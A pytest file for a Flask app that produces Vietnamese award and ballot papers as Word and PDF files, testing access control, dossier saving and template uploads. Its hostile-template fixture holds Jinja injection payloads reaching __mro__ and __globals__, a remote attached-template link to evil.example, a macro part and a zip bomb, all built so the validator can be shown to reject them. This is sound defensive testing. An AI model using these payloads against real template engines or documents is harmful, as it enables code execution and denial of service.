"""Papers made from the data: choosing, previewing, downloading, putting into a dossier; templates of a cluster."""

import io
import zipfile
from functools import cache

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session
from werkzeug.test import TestResponse

from emulation.gateways.word import default_template
from emulation.models.documents import DocumentTemplate
from emulation.models.dossiers import DossierPaper
from emulation.models.evidence import StoredFile
from emulation.vocabulary.documents import DocumentKind
from emulation.vocabulary.kinds import Provenance
from emulation.vocabulary.states import ProposalState
from tests.factories import documents
from tests.factories.documents import Year
from tests.factories.world import World
from tests.support.cards import SignIn
from tests.support.pages import get, submit, text_of
from tests.support.word import repacked, replaced, with_line, words_in

COMPOSE = "/clusters/tptw/documents/compose"
TEMPLATES = "/clusters/tptw/documents/templates"
BALLOT = DocumentKind.CLUSTER_BALLOT
MARK = "Minh họa – không phải số liệu chính thức"


@pytest.fixture
def year(session: Session, world: World) -> Year:
    """The year 2024, its proposal for the flag not yet sent."""
    found = documents.lay(session, world, Provenance.ILLUSTRATIVE)
    found.flag.state = ProposalState.VOTED
    session.commit()
    return found


def address(year: Year, kind: DocumentKind, file: str = "") -> str:
    """The page of a paper, or one of its files."""
    key = year.key(kind.value)
    return f"{COMPOSE}/{kind.value}{file}?year=2024" + (f"&{kind.matter.value}={key}" if key else "")


def main_of(answer: TestResponse) -> str:
    """The words of the main part with single spaces."""
    body = text_of(answer)
    return " ".join(body[body.index("<main") : body.index("</main>")].split())


def test_the_page_offers_what_the_reader_may_make(client_as: SignIn, year: Year) -> None:
    """Red when `_of_proposals` leaves the scope out."""
    chair = main_of(get(client_as("secretary.hn"), f"{COMPOSE}?year=2024"))
    for kind in DocumentKind:
        assert address(year, kind) in chair.replace("&amp;", "&"), kind
    officer = main_of(get(client_as("officer.hp"), f"{COMPOSE}?year=2024")).replace("&amp;", "&")
    assert address(year, DocumentKind.SUBMISSION) in officer
    assert address(year, DocumentKind.COUNCIL_BALLOT) in officer
    assert f"proposal={year.certificate.id}" not in officer
    for kind in (BALLOT, DocumentKind.NOMINEE_LIST, DocumentKind.CONFERENCE_MINUTES):
        assert address(year, kind) not in officer
    empty = main_of(get(client_as("officer.hp"), f"{COMPOSE}?year=2025"))
    assert "Năm này chưa có đề nghị, hội nghị hoặc kết quả bỏ phiếu nào" in empty


@pytest.mark.parametrize("kind", list(DocumentKind))
def test_every_paper_is_shown_and_comes_as_word_and_pdf(
    client_as: SignIn, year: Year, kind: DocumentKind
) -> None:
    """Red when one of the views does not answer for a kind."""
    chair = client_as("secretary.hn")
    page = main_of(get(chair, address(year, kind)))
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in page
    assert ("Chưa đủ dữ liệu: còn thiếu" in page) == ("[chưa có:" in page)
    word = get(chair, address(year, kind, "/word"))
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in words_in(word.data)
    assert word.headers["Content-Disposition"].startswith(f'attachment; filename="tptw-{kind.value}-2024')
    assert get(chair, address(year, kind, "/pdf")).data.startswith(b"%PDF")


def test_the_page_names_what_is_missing_and_what_is_made_up(client_as: SignIn, year: Year) -> None:
    page = main_of(get(client_as("secretary.hn"), address(year, DocumentKind.CONFERENCE_MINUTES)))
    assert "giờ khai mạc, chương trình hội nghị, đại biểu có mặt" in page
    assert "(Chưa xác nhận)" in main_of(get(client_as("secretary.hn"), address(year, BALLOT)))
    assert MARK in page
    shown = main_of(get(client_as("officer.hp"), address(year, DocumentKind.ACHIEVEMENT_REPORT)))
    assert "<Khen & thưởng> {{ 7*7 }}" in shown


def test_papers_of_others_are_not_there(client_as: SignIn, client: FlaskClient, year: Year) -> None:
    """Page and files alike. Red when `documents.read` asks nobody."""
    own = address(year, DocumentKind.SUBMISSION)
    assert get(client, own).status_code == 302
    for who, status in (("officer.dn", 404), ("outsider", 404), ("admin", 404), ("teller", 403)):
        for file in ("", "/word", "/pdf"):
            answer = get(client_as(who), address(year, DocumentKind.SUBMISSION, file))
            assert answer.status_code in (403, status), (who, file)
    for kind in (
        DocumentKind.NOMINEE_LIST,
        BALLOT,
        DocumentKind.CONFERENCE_MINUTES,
        DocumentKind.SCORE_TABLE,
    ):
        assert get(client_as("officer.hp"), address(year, kind)).status_code == 403
    for wrong in ("khong_co", "submission", "submission?year=2024&proposal=x", "nominee_list?year=1999"):
        assert get(client_as("secretary.hn"), f"{COMPOSE}/{wrong}").status_code == 404


def test_a_paper_goes_into_the_dossier(session: Session, client_as: SignIn, year: Year) -> None:
    """From the page to the row; sent twice it is one. Red when `make` does not record the row."""
    officer = client_as("officer.hp")
    page = f"/clusters/tptw/2024/proposals/{year.key('submission')}/dossier/submission/make"
    assert "Đưa vào hồ sơ" in main_of(get(officer, page))
    answer = submit(officer, page, {})
    assert (answer.status_code, answer.headers["Location"]) == (
        302,
        f"/clusters/tptw/2024/proposals/{year.key('submission')}/dossier",
    )
    [row] = session.scalars(select(DossierPaper))
    assert row.facts["rank"] == 3
    session.rollback()
    assert "Bản hiện có được thay" in main_of(get(officer, page))
    assert submit(officer, page, {}, version="0").status_code == 409
    assert submit(officer, page, {}).status_code == 302
    chairs = page.replace("submission", "score_table")
    assert get(officer, chairs).status_code == 403
    assert submit(client_as("secretary.hn"), chairs, {}).status_code == 302
    for who in ("officer.dn", "auditor", "leader.hp"):
        assert get(client_as(who), page).status_code in (403, 404)
    assert len(session.scalars(select(DossierPaper)).all()) == 3


def test_what_was_sent_is_not_made_again(session: Session, client_as: SignIn, year: Year) -> None:
    """Said beside the reason, nothing written. Red when the form has no reason."""
    year.flag.state = ProposalState.SENT
    session.commit()
    page = f"/clusters/tptw/2024/proposals/{year.key('submission')}/dossier/submission/make"
    answer = submit(client_as("officer.hp"), page, {})
    assert answer.status_code == 422
    assert "Nhập lý do" in text_of(answer)
    assert session.scalars(select(StoredFile)).all() == []


def bring(
    client: FlaskClient, content: bytes, kind: DocumentKind = BALLOT, name: str = "mau.docx"
) -> TestResponse:
    """Upload a template."""
    return submit(client, f"{TEMPLATES}/{kind.value}", {"file": (io.BytesIO(content), name)})


def test_a_template_goes_out_comes_back_and_is_withdrawn(
    session: Session, client_as: SignIn, year: Year
) -> None:
    """What is left out is named; the PDF stays. Red when `word_file` takes the default template always."""
    chair = client_as("secretary.hn")
    assert "Mẫu mặc định" in main_of(get(chair, TEMPLATES))
    page = main_of(get(chair, f"{TEMPLATES}/{BALLOT.value}"))
    for words in ("phieu_khong_hop_le", "Số phiếu không hợp lệ", "ky_ten", "bảng, mỗi dòng một bản ghi"):
        assert words in page
    given = get(chair, f"{TEMPLATES}/{BALLOT.value}/default").data
    assert given == default_template(BALLOT)
    assert get(chair, f"{TEMPLATES}/{BALLOT.value}/own").status_code == 404
    edited = with_line(replaced(given, "{{ ma_quy_tac }}", "…"), "Đã rà soát")
    assert bring(chair, edited).status_code == 302
    shown = text_of(get(chair, f"{TEMPLATES}/{BALLOT.value}"))
    assert "Mẫu không dùng: ma_quy_tac." in shown
    assert "Đã rà soát" in words_in(get(chair, address(year, BALLOT, "/word")).data)
    assert "PDF và bản xem trước vẫn theo mẫu mặc định" in main_of(get(chair, address(year, BALLOT)))
    assert get(chair, f"{TEMPLATES}/{BALLOT.value}/own").data == edited
    [row] = session.scalars(select(DocumentTemplate))
    number = row.id
    session.rollback()
    withdraw = f"{TEMPLATES}/{BALLOT.value}/withdraw"
    assert submit(chair, f"{TEMPLATES}/{BALLOT.value}", {}, withdraw, version="0").status_code == 409
    assert submit(chair, f"{TEMPLATES}/{BALLOT.value}", {"version": str(number)}, withdraw).status_code == 302
    assert "Đã rà soát" not in words_in(get(chair, address(year, BALLOT, "/word")).data)


@cache
def hostile() -> dict[str, tuple[bytes, str]]:
    """Templates with what is said about each."""
    plain = default_template(BALLOT)
    outside = (
        b'<Relationship Id="rIdX" TargetMode="External" Target="https://evil.example/x.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    linked = repacked(
        plain,
        lambda name, data: (
            data.replace(b"</Relationships>", outside) if name == "word/_rels/document.xml.rels" else data
        ),
    )
    bomb = repacked(
        plain, lambda _name, data: data, {"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 90_000_000}
    )
    return {
        "classes": (with_line(plain, "{{ ''.__class__.__mro__ }}"), "phần “__mro__” không được phép"),
        "range": (
            with_line(plain, "{% for i in range(10**9) %}{% endfor %}"),
            "phần “range” không được phép",
        ),
        "globals": (
            with_line(plain, "{{ cycler.__init__.__globals__ }}"),
            "phần “__globals__” không được phép",
        ),
        "open": (with_line(plain, "{% for a in ket_luan %}"), "chưa được đóng"),
        "unknown": (with_line(plain, "{{ so_phieu_ao }}"), "trường “so_phieu_ao” không có trong danh sách"),
        "include": (with_line(plain, "{% include 'x' %}"), "phần “include” không được phép"),
        "missing": (replaced(plain, "{{ tong_so }}", ""), "Mẫu thiếu trường bắt buộc: tong_so."),
        "macro": (repacked(plain, lambda _name, data: data, {"word/vbaProject.bin": b"x"}), "chứa macro"),
        "linked": (linked, "liên kết ngoài"),
        "bomb": (bomb, "cấu trúc nén bất thường"),
        "broken": (b"PK\x03\x04", "hỏng"),
    }


@pytest.mark.parametrize("name", sorted(hostile()))
def test_a_hostile_template_is_refused_beside_the_field(
    session: Session, client_as: SignIn, year: Year, name: str
) -> None:
    """In words, and nothing is written. Red when template_upload keeps the file before it is tried."""
    content, said = hostile()[name]
    answer = bring(client_as("secretary.hn"), content)
    assert answer.status_code == 422
    page = text_of(answer)
    assert said in page[page.index("<form") :], name
    assert "file-error" in page
    assert session.scalars(select(StoredFile)).all() == []
    assert session.scalars(select(DocumentTemplate)).all() == []


def test_no_template_and_no_word_file_are_said_too(client_as: SignIn, year: Year) -> None:
    chair = client_as("secretary.hn")
    assert "Chọn tệp mẫu Word." in text_of(submit(chair, f"{TEMPLATES}/submission", {}))
    assert "phải là Word" in text_of(bring(chair, b"%PDF-1.7", name="mau.pdf"))
    for who in ("officer.hp", "secretary.hcm", "leader.hn", "auditor", "admin"):
        assert get(client_as(who), TEMPLATES).status_code in (403, 404)
        assert get(client_as(who), f"{TEMPLATES}/submission/default").status_code in (403, 404)
    assert zipfile.is_zipfile(io.BytesIO(get(chair, f"{TEMPLATES}/submission/default").data))
